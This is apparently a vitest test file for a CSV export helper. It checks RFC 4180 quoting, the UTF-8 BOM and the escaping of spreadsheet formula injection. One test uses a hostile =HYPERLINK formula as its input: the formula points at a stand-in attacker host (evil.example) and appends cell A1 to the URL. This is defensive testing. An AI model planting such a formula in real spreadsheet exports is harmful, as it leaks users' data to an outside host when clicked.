// app/lib/csv.ts: RFC 4180 quoting, formula-injection protection, the BOM. Read back with csv-parse (a maintained
// reader), so "comes out safe" means a spreadsheet would read the same text back.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { CSV_BOM, csvField, csvLine } from "../../app/lib/csv";

/** Records as csv-parse (a maintained RFC 4180 reader) reads them: a differential check of what we write. */
function parseCsv(text: string): string[][] {
  return parse(text, { relax_column_count: false, record_delimiter: "\r\n" }) as string[][];
}

describe("csvField", () => {
  it("leaves plain text and numbers as they are; null and undefined are empty", () => {
    expect(csvField("Ada")).toBe("Ada");
    expect(csvField("12.34")).toBe("12.34");
    expect(csvField(3)).toBe("3");
    expect(csvField(-3)).toBe("-3");
    expect(csvField(0)).toBe("0");
    expect(csvField(Number.NaN)).toBe("");
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
    expect(csvField("")).toBe("");
  });

  it("quotes a field with a comma, a quote, CR or LF, doubling the quotes (RFC 4180)", () => {
    expect(csvField("Smith, Bob")).toBe('"Smith, Bob"');
    expect(csvField('Bob "the builder"')).toBe('"Bob ""the builder"""');
    expect(csvField("line\nbreak")).toBe('"line\nbreak"');
    expect(csvField("line\r\nbreak")).toBe('"line\r\nbreak"');
    expect(csvField("a\rb")).toBe('"a\rb"');
  });

  it("puts an apostrophe before text a spreadsheet would run as a formula", () => {
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("+1 555 0100")).toBe("'+1 555 0100");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("\tx")).toBe("'\tx");
    expect(csvField("\r=1")).toBe('"\'\r=1"');
    // Not at the start: nothing to protect.
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("x@example.com")).toBe("x@example.com");
  });

  it("protects and quotes together: =HYPERLINK with quotes and commas", () => {
    const hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
    expect(csvField(hostile)).toBe('"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"');
    expect(parseCsv(csvLine([hostile, "next"]))).toEqual([[`'${hostile}`, "next"]]);
  });
});

describe("csvLine", () => {
  it("joins fields with commas and ends the record with CRLF", () => {
    expect(csvLine(["a", 1, null, "b,c"])).toBe('a,1,,"b,c"\r\n');
    expect(csvLine([])).toBe("\r\n");
  });

  it("any text reads back as itself (with the apostrophe where one was added), one record, as many fields", () => {
    const text = fc.string({ unit: fc.constantFrom("a", "Z", "é", "😀", ",", '"', "\r", "\n", "\t", "=", "+", "-", "@", " ", "'"), maxLength: 12 });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (fields) => {
        const back = parseCsv(csvLine(fields));
        expect(back).toHaveLength(1);
        expect(back[0]).toEqual(fields.map((f) => (/^[=+\-@\t\r]/.test(f) ? `'${f}` : f)));
        // No field read back starts a formula.
        for (const f of back[0]) expect(/^[=+\-@\t\r]/.test(f)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });
});

describe("CSV_BOM", () => {
  it("is the UTF-8 byte order mark (EF BB BF once encoded)", () => {
    expect([...new TextEncoder().encode(CSV_BOM)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
